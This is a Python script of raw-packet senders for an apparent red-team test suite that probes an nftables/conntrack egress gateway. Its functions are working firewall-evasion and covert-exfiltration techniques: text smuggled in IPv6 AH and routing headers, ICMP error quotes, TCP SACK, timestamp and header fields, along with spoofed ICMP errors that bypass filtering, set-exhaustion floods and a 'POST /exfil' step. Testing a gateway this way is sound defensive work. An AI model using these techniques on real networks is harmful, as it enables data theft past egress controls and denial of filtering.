#!/usr/bin/env python3
"""Raw senders for tests/redteam4/gate_probe4.sh (run in the client namespace).

usage: gate_probe4.py KIND SRC4 DST4 SRC6 DST6 MARK COUNT

Each KIND carries MARK (short: at most 16 bytes) and readable text to the
cn server in a place the gate-mode ruleset lets through; it prints
"sent N packets, B text bytes each, in S seconds" so that the driver can
turn the marker copies counted at cn into bytes a second."""
import os, socket, struct, sys, time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "redteam3"))
from gate_probe import csum, ip4, https_request  # noqa: E402  (round 3's senders, one copy)

def tcp4(src, dst, sport, dport, seq, ack, flags, opt=b"", payload=b"", win=64240, urg=0):
    t = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                    (5 + len(opt) // 4) << 4, flags, win, 0, urg) + opt + payload
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(t))
    return t[:16] + struct.pack("!H", csum(ph + t)) + t[18:]

def tcp6(S6, D6, sport, dport, seq, ack, flags, opt=b"", win=64240):
    t = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                    (5 + len(opt) // 4) << 4, flags, win, 0, 0) + opt
    ph = S6 + D6 + struct.pack("!IxxxB", len(t), 6)
    return t[:16] + struct.pack("!H", csum(ph + t)) + t[18:]

def text_for(mark, n):
    t = (mark + " CONFIDENTIAL rotor blade alloy spec rev 7 ").encode()
    return (t * (n // len(t) + 1))[:n]

def sack_opts(mark, i):
    """The doff-15 layout the gate allows on any segment that is not a SYN:
    NOP NOP timestamps, NOP NOP SACK with three blocks: the 8 timestamp
    bytes and the 24 bytes of edges are free, 32 bytes of text a segment.
    The marker goes in the edges (contiguous), the rest of the text around it."""
    edges = (mark.encode() + b" " + b"CONFIDENTIAL-rotor-blade-alloy-spec")[:24]
    edges += b"." * (24 - len(edges))
    ts = ("%08d" % i).encode()[-8:]
    return b"\x01\x01\x08\x0a" + ts + b"\x01\x01\x05\x1a" + edges

def ts_opts(mark, i):
    """The timestamps layout (NOP NOP timestamps), the one a segment that is
    not a SYN may carry towards the block tier once the SACK layouts are
    gone: the 8-byte marker is TSval and TSecr."""
    return b"\x01\x01\x08\x0a" + (mark.encode() + b"........")[:8]

def sniffer():
    sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sn.bind(("eth0", 0)); sn.setblocking(False)
    return sn

def last_seq(sn, v6, src, sport):
    """The next sequence number and the acknowledgment of our last segment
    on SPORT, from what the sniffer saw leave."""
    seq = ack = None
    while True:
        try: f = sn.recv(70000)
        except BlockingIOError: break
        if not v6:
            if f[12:14] != b"\x08\x00" or f[23] != 6: continue
            ip = f[14:]; ihl = (ip[0] & 15) * 4; tcp = ip[ihl:]
            if ip[12:16] != socket.inet_aton(src): continue
            tl = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
        else:
            if f[12:14] != b"\x86\xdd" or f[20] != 6: continue
            ip = f[14:]; tcp = ip[40:]
            if ip[8:24] != socket.inet_pton(socket.AF_INET6, src): continue
            tl = struct.unpack("!H", ip[4:6])[0] - (tcp[12] >> 4) * 4
        if struct.unpack("!H", tcp[0:2])[0] != sport: continue
        seq = (struct.unpack("!I", tcp[4:8])[0] + tl + (1 if tcp[13] & 3 else 0)) & 0xffffffff
        ack = struct.unpack("!I", tcp[8:12])[0]
    return seq, ack

def tls_conn(af, src, dst, sport):
    """A real HTTPS connection to cn:443 (the engine allows it: encrypted,
    `designated-any' logs), left open past the verdict; returns it and its
    sequence numbers."""
    c, sn = https_request(af, src, dst, sport)
    seq, ack = last_seq(sn, af == socket.AF_INET6, src, sport)
    print("seq", seq, "ack", ack, flush=True)
    return c, seq, ack

def report(n, per, t0):
    print("sent %d packets, %d text bytes each, in %.3f seconds" % (n, per, time.monotonic() - t0), flush=True)

# --- 1. IPv6 Authentication Header on an allowed connection ---------------------
def v6_ah(s6, d6, mark, count, sport=41401, conn=True, ah_on=True, opts=sack_opts):
    """Bare ACKs of an allowed IPv6 TLS connection, each behind an AH whose
    ICV (996 bytes, the most a payload-length byte gives) is text.  nft's
    meta l4proto skips AH (ipv6_find_hdr), and the ruleset holds HBH,
    destination options and spent routing headers, not AH."""
    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
    if conn:
        c, seq, ack = tls_conn(socket.AF_INET6, s6, d6, sport)
        dport = 443
    else:
        c = None; seq, ack, dport = 1, 1, 9000
    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    icv = text_for(mark, 996)
    t0 = time.monotonic()
    for i in range(int(count)):
        tcp = tcp6(S6, D6, sport if conn else sport + i, dport, seq, ack, 0x10)
        if ah_on:
            ah = bytes([6, (12 + len(icv)) // 4 - 2, 0, 0]) + struct.pack("!II", 0x1000, i + 1) + icv
        else:   # the control: the same segments in the doff-15 layout, no AH
            ah = b""
            tcp = tcp6(S6, D6, sport if conn else sport + i, dport, seq, ack, 0x10, opts(mark, i))
        ip = struct.pack("!IHBB", 0x60000000, len(ah) + len(tcp), 51 if ah_on else 6, 64) + S6 + D6
        r6.sendto(ip + ah + tcp, (d6, 0))
    report(int(count), len(icv) if ah_on else len(opts(mark, 0)) - 4, t0)
    time.sleep(0.5)
    if c: c.close()

def v6_srh_live(s6, d6, mark, count, rtype=4):
    """Bare ACKs of an allowed IPv6 TLS connection after a routing header
    whose segments left is 1 (not spent): the forward chain sends it to
    block_out6, whose `rt seg-left 0' hold does not match, so the allow
    mark accepts it.  The destination is cn, the last segment (segments[0])
    is cn too, the others are text (62 segments, 992 bytes)."""
    sport = 41408 if rtype == 4 else 41409
    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
    c, seq, ack = tls_conn(socket.AF_INET6, s6, d6, sport)
    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    text = text_for(mark, 992)
    t0 = time.monotonic()
    for i in range(int(count)):
        tcp = tcp6(S6, D6, sport, 443, seq, ack, 0x10)
        segs = D6 + text
        n = len(segs) // 16
        if rtype == 4:
            rh = bytes([6, len(segs) // 8, 4, 1, n - 1, 0, 0, 0]) + segs
        else:   # type 0 (deprecated; RFC 5095): reserved word, then addresses
            rh = bytes([6, len(segs) // 8, 0, 1, 0, 0, 0, 0]) + segs
        ip = struct.pack("!IHBB", 0x60000000, len(rh) + len(tcp), 43, 64) + S6 + D6
        r6.sendto(ip + rh + tcp, (d6, 0))
    report(int(count), len(text), t0)
    time.sleep(0.5)
    c.close()

# --- 2. ICMP errors quoting an allowed connection ---------------------------------
def icmp_err(s4, d4, mark, count):
    """Port-unreachable errors from the client to cn, quoting a segment cn
    'sent' on an allowed TLS connection, followed by 1000 bytes of text.
    Conntrack calls them RELATED to the connection, so `ct mark' is the
    connection's allow mark and the rule after it accepts any protocol."""
    sport = 41402
    c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    text = text_for(mark, 1000)
    inner = ip4(d4, s4, 6, struct.pack("!HHI", 443, sport, ack) + text, 7)
    t0 = time.monotonic()
    for i in range(int(count)):
        body = struct.pack("!BBHI", 3, 3, 0, 0) + inner
        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
        r4.sendto(ip4(s4, d4, 1, body, 7000 + i), (d4, 0))
    report(int(count), len(text), t0)
    time.sleep(0.5)
    c.close()

def icmp6_err(s6, d6, mark, count):
    """The same over IPv6: ICMPv6 port unreachable quoting cn's segment, then text."""
    sport = 41403
    S6, D6 = socket.inet_pton(socket.AF_INET6, s6), socket.inet_pton(socket.AF_INET6, d6)
    c, seq, ack = tls_conn(socket.AF_INET6, s6, d6, sport)
    r6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    text = text_for(mark, 1000)
    itcp = struct.pack("!HHI", 443, sport, ack) + text
    inner = struct.pack("!IHBB", 0x60000000, len(itcp), 6, 64) + D6 + S6 + itcp
    t0 = time.monotonic()
    for i in range(int(count)):
        body = struct.pack("!BBHI", 1, 4, 0, 0) + inner
        ph = S6 + D6 + struct.pack("!IxxxB", len(body), 58)
        body = body[:2] + struct.pack("!H", csum(ph + body)) + body[4:]
        ip = struct.pack("!IHBB", 0x60000000, len(body), 58, 64) + S6 + D6
        r6.sendto(ip + body, (d6, 0))
    report(int(count), len(text), t0)
    time.sleep(0.5)
    c.close()

# --- 2b. an ICMP error from a conforming host marks a CN connection "no set matched"
def f2_bypass(s4, d4, mark, count, v6=False, s6=None, d6=None):
    """A real connection to cn:8080 (the gate holds its payload until the
    verdict), then a cooperating host in the conforming tier (us, via
    EF_US_NS/EF_US4/EF_US6) sends the client an ICMP destination
    unreachable quoting the client's segment to cn.  Conntrack calls it
    RELATED to the client->cn connection (the outer destination is the
    client, as for a real error from a router on the way).  prefilter sees
    no set match (us -> client) and sets the 0xf2 "no set matched" mark on
    the *connection's* ct; from then on the forward chain's first rule
    accepts every packet of it before any block-tier rule.  Then COUNT
    HTTP requests of readable text on the connection."""
    import subprocess
    src, dst = (s6, d6) if v6 else (s4, d4)
    af = socket.AF_INET6 if v6 else socket.AF_INET
    sport = (41412 if v6 else 41411) + (10 if os.environ.get("EF_SELF_RELAY") else 0) + (20 if os.environ.get("EF_NO_RELAY") else 0)
    t = socket.socket(af); t.bind((src, sport)); t.settimeout(3)
    dport = 9000 if os.environ.get("EF_BULK") else 8080   # the bulk to the sink, which reads and drops
    os.environ["EF_DPORT"] = str(dport)
    t.connect((dst, dport))
    if os.environ.get("EF_SELF_RELAY"):
        # no cooperating host: the client sends the error to itself, in a
        # frame to the gateway's MAC; the gateway forwards it back out of
        # the interface it came in on, through the forward hook
        icmp_relay(src, dst, src, str(sport), v6=v6, via_mac=os.environ["EF_GW_MAC"])
    elif os.environ.get("EF_NO_RELAY") is None:
        subprocess.run(["ip", "netns", "exec", os.environ["EF_US_NS"], sys.executable, os.path.abspath(__file__),
                        "icmp-relay6" if v6 else "icmp-relay", src, dst, os.environ["EF_US6" if v6 else "EF_US4"],
                        str(sport)], check=True)
    time.sleep(0.5)
    body = text_for(mark, 1000)
    t0 = time.monotonic()
    sent = 0
    if os.environ.get("EF_BULK"):
        # COUNT megabytes at once: how fast the bypassed connection goes
        chunk = text_for(mark, 1 << 20)
        t0 = time.monotonic()
        for i in range(int(count)):
            t.sendall(chunk)
        report(int(count), len(chunk), t0)
        time.sleep(1)
        t.close()
        return
    try:
        for i in range(int(count)):
            t.send(b"POST /exfil HTTP/1.1\r\nHost: cn\r\nContent-Length: 1000\r\n\r\n" + body)
            sent += 1
            time.sleep(0.02)
    except OSError as e:
        print("send %d: %s" % (sent, e), flush=True)
    report(sent, len(body), t0)
    time.sleep(1)
    t.close()

def icmp_relay(client, cn, us, sport, v6=False, via_mac=None):
    """(in the us namespace) the ICMP error to the client quoting its
    segment to cn; with VIA_MAC (from the client itself, US = the client),
    sent as a frame to that MAC."""
    def send(pkt, af):
        if via_mac:
            l = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            l.bind(("eth0", 0))
            src_mac = open("/sys/class/net/eth0/address").read().strip()
            l.send(bytes.fromhex(via_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) +
                   (b"\x86\xdd" if af == socket.AF_INET6 else b"\x08\x00") + pkt)
        else:
            socket.socket(af, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(pkt, (client, 0))
    if not v6:
        inner = ip4(client, cn, 6, struct.pack("!HHI", int(sport), int(os.environ.get("EF_DPORT", "8080")), 1), 1)[:28]
        body = struct.pack("!BBHI", 3, 1, 0, 0) + inner
        body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
        send(ip4(us, client, 1, body, 1), socket.AF_INET)
    else:
        C, N, U = (socket.inet_pton(socket.AF_INET6, a) for a in (client, cn, us))
        itcp = struct.pack("!HHI", int(sport), int(os.environ.get("EF_DPORT", "8080")), 1)
        inner = struct.pack("!IHBB", 0x60000000, 20, 6, 64) + C + N + itcp
        body = struct.pack("!BBHI", 1, 3, 0, 0) + inner
        ph = U + C + struct.pack("!IxxxB", len(body), 58)
        body = body[:2] + struct.pack("!H", csum(ph + body)) + body[4:]
        send(struct.pack("!IHBB", 0x60000000, len(body), 58, 64) + U + C + body, socket.AF_INET6)
    print("relayed", flush=True)

# --- 2c. the SSH grace, one connection after another ---------------------------
def ssh_banner_server(port):
    """(on cn) says an SSH banner to every connection and reads what comes."""
    import threading
    ls = socket.socket(socket.AF_INET6); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("::", int(port))); ls.listen(64)
    def serve(c):
        try:
            c.sendall(b"SSH-2.0-OpenSSH_9.6p1 Debian-4\r\n")
            c.settimeout(10)
            while c.recv(65536): pass
        except OSError: pass
        c.close()
    while True:
        c, _ = ls.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()

def ssh_many(s4, d4, mark, count):
    """COUNT connections to cn:2222, whose server says an SSH banner (the
    engine then puts the flow in grace: `ct original bytes < 8192' pass
    until the key-exchange check blocks it); on each, the client's banner
    and 8000 bytes of text at once, as soon as the server's banner came;
    20 connections at a time."""
    import threading
    text = text_for(mark, 8000)
    def one(i):
        t = socket.socket(); t.settimeout(3)
        try:
            t.connect((d4, 2222)); t.recv(100)
            time.sleep(0.2)   # the engine's grace verdict
            t.sendall(b"SSH-2.0-OpenSSH_9.6\r\n" + text)
            time.sleep(0.3)
        except OSError as e:
            print("conn %d: %s" % (i, e), flush=True)
        t.close()
    t0 = time.monotonic()
    # 20 connections at a time
    for b in range(0, int(count), 20):
        th = [threading.Thread(target=one, args=(i,)) for i in range(b, min(b + 20, int(count)))]
        for x in th: x.start()
        for x in th: x.join()
    report(int(count), 0, t0)

# --- 3. the allowed layouts' free words on an allowed connection -----------------
def sack_allowed(s4, d4, mark, count):
    """Bare ACKs of an allowed TLS connection in the doff-15 layout
    (timestamps + 3 SACK blocks): 32 free bytes each, no bound after the verdict."""
    sport = 41404
    # Without SACK-permitted in the handshake conntrack does not read the
    # SACK blocks (with it, an edge after the peer's end makes the segment
    # invalid: then the ISN decides, 3000 of 3000 or 32 in two runs).  The
    # insider owns the client's stack: turn SACK off for this connection.
    with open("/proc/sys/net/ipv4/tcp_sack") as f: old = f.read()
    with open("/proc/sys/net/ipv4/tcp_sack", "w") as f: f.write("0")
    try:
        c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
    finally:
        with open("/proc/sys/net/ipv4/tcp_sack", "w") as f: f.write(old)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(int(count)):
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 443, seq, ack, 0x10, sack_opts(mark, i)), 8000 + i), (d4, 0))
    report(int(count), 32, t0)
    time.sleep(0.5)
    c.close()

# --- 3b. IPv4 fragments whose later fragment has options --------------------------
def frag_opt(s4, d4, mark, count):
    """Bare ACKs of an allowed TLS connection in two IPv4 fragments: the
    first (no options) the TCP header's first 8 bytes, the second with 40
    bytes of IPv4 options of text (kind 0x9e) and the other 12.  Conntrack
    reassembles before the forward hook (the rules see the first
    fragment's header); what leaves the gateway is built from the first
    fragment's header too, so the text should not reach cn."""
    sport = 41415
    c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    opt = bytes([0x9e, 40]) + (mark.encode() + b" CONFIDENTIAL rotor blade alloy spec")[:38]
    t0 = time.monotonic()
    for i in range(int(count)):
        tcp = tcp4(s4, d4, sport, 443, seq, ack, 0x10)
        ident = 0x4000 + i
        h1 = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, ident, 0x2000, 64, 6, 0, socket.inet_aton(s4), socket.inet_aton(d4))
        h1 = h1[:10] + struct.pack("!H", csum(h1)) + h1[12:]
        h2 = struct.pack("!BBHHHBBH4s4s", 0x4f, 0, 60 + 12, ident, 1, 64, 6, 0, socket.inet_aton(s4), socket.inet_aton(d4)) + opt
        h2 = h2[:10] + struct.pack("!H", csum(h2)) + h2[12:]
        r4.sendto(h1 + tcp[:8], (d4, 0))
        r4.sendto(h2 + tcp[8:], (d4, 0))
    report(int(count), 38, t0)
    time.sleep(0.5)
    c.close()

# --- 4. the token bucket's key: a fresh 5-tuple each segment ---------------------
def port_spray(s4, d4, mark, count, flags=0x10, opts=sack_opts):
    """Bare segments (ACK, or RST) with the doff-15 layout (or OPTS') to
    cn:9000, each from its own source port: no handshake (conntrack picks an
    ACK up as a new connection; a RST it calls invalid) and each 5-tuple its
    own bucket."""
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(int(count)):
        sport = 10000 + i % 50000
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, 1000 + i, 5000, flags, opts(mark, i)), i), (d4, 0))
    report(int(count), len(opts(mark, 0)) - 4, t0)

def bucket_full(s4, d4, mark, count, fill=270000, sport=41410):
    """First FILL RSTs without text, each its own 5-tuple (source port x
    destination port), to fill bare_flows4 (262,144 entries, 60 s each);
    then a connection to the silent sink on cn:9000 (undecided) and COUNT
    bare ACKs on it in the doff-15 layout, the marker in their SACK edges.
    With room in the set, 32 of them pass (the bucket); a full set makes
    `update' fail, the rule not match, and the next rule accept."""
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(fill):
        sport, dport = 1024 + i % 60000, 20000 + i // 60000
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, dport, i, 0, 0x04), i), (d4, 0))
    print("filled %d in %.1f s" % (fill, time.monotonic() - t0), flush=True)
    sn = sniffer()
    t = socket.socket(); t.bind((s4, sport)); t.connect((d4, 9000))
    time.sleep(0.3)
    seq, ack = last_seq(sn, False, s4, sport)
    t0 = time.monotonic()
    for i in range(int(count)):
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, seq, ack, 0x10, sack_opts(mark, i)), i), (d4, 0))
    report(int(count), 32, t0)
    t.close()

def ack_flood_one(s4, d4, mark, count):
    """The control for bucket-full: the same connection and ACKs, no filling."""
    bucket_full(s4, d4, mark, count, fill=0, sport=41413)

# --- 5. SYNs: a layout's free words, a new connection each ------------------------
def syn_spray(s4, d4, mark, count):
    """SYNs in macOS's layout (MSS, window scale, timestamps, SACK-permitted):
    the MSS value, the shift and both timestamps are free, 11 bytes; each
    SYN from its own source port (its own conntrack entry and bucket).  The
    marker is split over the TSval/TSecr words (8 bytes)."""
    m = (mark.encode() + b"........")[:8]
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(int(count)):
        opt = b"\x02\x04" + b"CO" + b"\x01\x03\x03" + b"N" + b"\x01\x01\x08\x0a" + m + b"\x04\x02\x00\x00"
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, 20000 + i % 40000, 8443, 7777 + i, 0, 0x02, opt), i), (d4, 0))
    report(int(count), 11, t0)

def syn_spray_ts0(s4, d4, mark, count):
    """The same SYNs with TSecr 0, as a SYN's is (RFC 7323): they match the
    layout, and only the MSS value, the shift and TSval are free (7 bytes:
    the marker's first 7).  What bounds them is the client's budget."""
    m = mark.encode()[:7]
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(int(count)):
        opt = b"\x02\x04" + m[:2] + b"\x01\x03\x03" + m[2:3] + b"\x01\x01\x08\x0a" + m[3:7] + b"\0\0\0\0" + b"\x04\x02\x00\x00"
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, 20000 + i % 40000, 8443, 7777 + i, 0, 0x02, opt), i), (d4, 0))
    report(int(count), 7, t0)

def budget_fill6(s6, d6, mark, count):
    """COUNT SYNs to cn:443 from as many /64s of fc00::/7 (spoofed, in
    frames to the gateway's MAC), each carrying a ClientHello's first bytes:
    the hello rule draws each from its /64's budget, one element each, so
    COUNT above the set's size fills undecided_budget6."""
    l = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    l.bind(("eth0", 0))
    src_mac = open("/sys/class/net/eth0/address").read().strip()
    eth = bytes.fromhex(os.environ["EF_GW_MAC"].replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x86\xdd"
    D6 = socket.inet_pton(socket.AF_INET6, d6)
    hello = b"\x16\x03\x01\x00\x40\x01" + b"\0" * 58
    t0 = time.monotonic()
    for i in range(int(count)):
        S6 = socket.inet_pton(socket.AF_INET6, "fc00:0:%x:%x::2" % (i >> 16, i & 0xffff))
        t = struct.pack("!HHIIBBHHH", 20000 + i % 40000, 443, 1000 + i, 0, 5 << 4, 0x02, 64240, 0, 0) + hello
        ph = S6 + D6 + struct.pack("!IxxxB", len(t), 6)
        t = t[:16] + struct.pack("!H", csum(ph + t)) + t[18:]
        l.send(eth + struct.pack("!IHBB", 0x60000000, len(t), 6, 64) + S6 + D6 + t)
    report(int(count), 0, t0)

# --- 6. RSTs on a blocked connection: `refuse' accepts every RST without payload --
def rst_blocked(s4, d4, mark, count):
    """A connection whose first bytes are cleartext HTTP (blocked), then
    RSTs at its tuple in the doff-15 layout (32 bytes of text each)."""
    sport = 41406
    t = socket.socket(); t.bind((s4, sport)); t.settimeout(3)
    sn = sniffer()
    try:
        t.connect((d4, 8080))
        t.send(b"GET /secret HTTP/1.1\r\nHost: cn\r\n\r\n")
        time.sleep(4)
    except Exception as e:
        print("connect", e, flush=True)
    seq, ack = last_seq(sn, False, s4, sport)
    print("seq", seq, "ack", ack, flush=True)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    for i in range(int(count)):
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 8080, (seq or 1) + i, ack or 0, 0x14, sack_opts(mark, i)), 9000 + i), (d4, 0))
    report(int(count), 32, t0)
    t.close()

# --- 7. header fields: seq, ack, window, urgent pointer --------------------------
def header_fields(s4, d4, mark, count):
    """Bare ACKs of an allowed TLS connection without options whose
    sequence, acknowledgment, window and urgent pointer (12 bytes) are text
    (URG set, so the pointer is 'meaningful'): nothing in the ruleset looks
    at them; conntrack calls most of them invalid (out of window)."""
    sport = 41407
    c, seq, ack = tls_conn(socket.AF_INET, s4, d4, sport)
    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    m = (mark.encode() + b" CONFIDENTIAL")[:12]
    sq, ak, wn, ug = struct.unpack("!IIHH", m)
    t0 = time.monotonic()
    for i in range(int(count)):
        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 443, sq, ak, 0x30, win=wn, urg=ug), 9500 + i), (d4, 0))
    report(int(count), 12, t0)
    time.sleep(0.5)
    c.close()

def main():
    if sys.argv[1] == "ssh-banner-server":
        return ssh_banner_server(sys.argv[2])
    if sys.argv[1] in ("icmp-relay", "icmp-relay6"):
        return icmp_relay(*sys.argv[2:6], v6=sys.argv[1] == "icmp-relay6")
    kind, s4, d4, s6, d6, mark, count = sys.argv[1:8]
    {
        "v6-ah-allowed": lambda: v6_ah(s6, d6, mark, count),
        "v6-ah-undecided": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False),
        "v6-ack-port-spray": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False, ah_on=False),
        "v6-srh-live-allowed": lambda: v6_srh_live(s6, d6, mark, count),
        "v6-rh0-live-allowed": lambda: v6_srh_live(s6, d6, mark, count, rtype=0),
        "bucket-full": lambda: bucket_full(s4, d4, mark, count),
        "ackflood-one": lambda: ack_flood_one(s4, d4, mark, count),
        "f2-bypass": lambda: f2_bypass(s4, d4, mark, count),
        "f2-bypass6": lambda: f2_bypass(s4, d4, mark, count, v6=True, s6=s6, d6=d6),
        "f2-self": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), f2_bypass(s4, d4, mark, count)),
        "f2-self6": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), f2_bypass(s4, d4, mark, count, v6=True, s6=s6, d6=d6)),
        "f2-self-bulk": lambda: (os.environ.__setitem__("EF_SELF_RELAY", "1"), os.environ.__setitem__("EF_BULK", "1"), f2_bypass(s4, d4, mark, count)),
        "f2-control": lambda: (os.environ.__setitem__("EF_NO_RELAY", "1"), f2_bypass(s4, d4, mark, count)),
        "ssh-many-bulk": lambda: ssh_many(s4, d4, mark, count),
        "frag-opt-allowed": lambda: frag_opt(s4, d4, mark, count),
        "icmp-err-allowed": lambda: icmp_err(s4, d4, mark, count),
        "icmp6-err-allowed": lambda: icmp6_err(s6, d6, mark, count),
        "sack-allowed": lambda: sack_allowed(s4, d4, mark, count),
        "ack-port-spray": lambda: port_spray(s4, d4, mark, count),
        "rst-port-spray": lambda: port_spray(s4, d4, mark, count, flags=0x14),
        "syn-spray": lambda: syn_spray(s4, d4, mark, count),
        "syn-spray-ts0": lambda: syn_spray_ts0(s4, d4, mark, count),
        "budget-fill6": lambda: budget_fill6(s6, d6, mark, count),
        "ack-port-spray-ts": lambda: port_spray(s4, d4, mark, count, opts=ts_opts),
        "v6-ack-port-spray-ts": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False, ah_on=False, opts=ts_opts),
        "rst-blocked": lambda: rst_blocked(s4, d4, mark, count),
        "hdr-allowed": lambda: header_fields(s4, d4, mark, count),
    }[kind]()

if __name__ == "__main__":
    main()
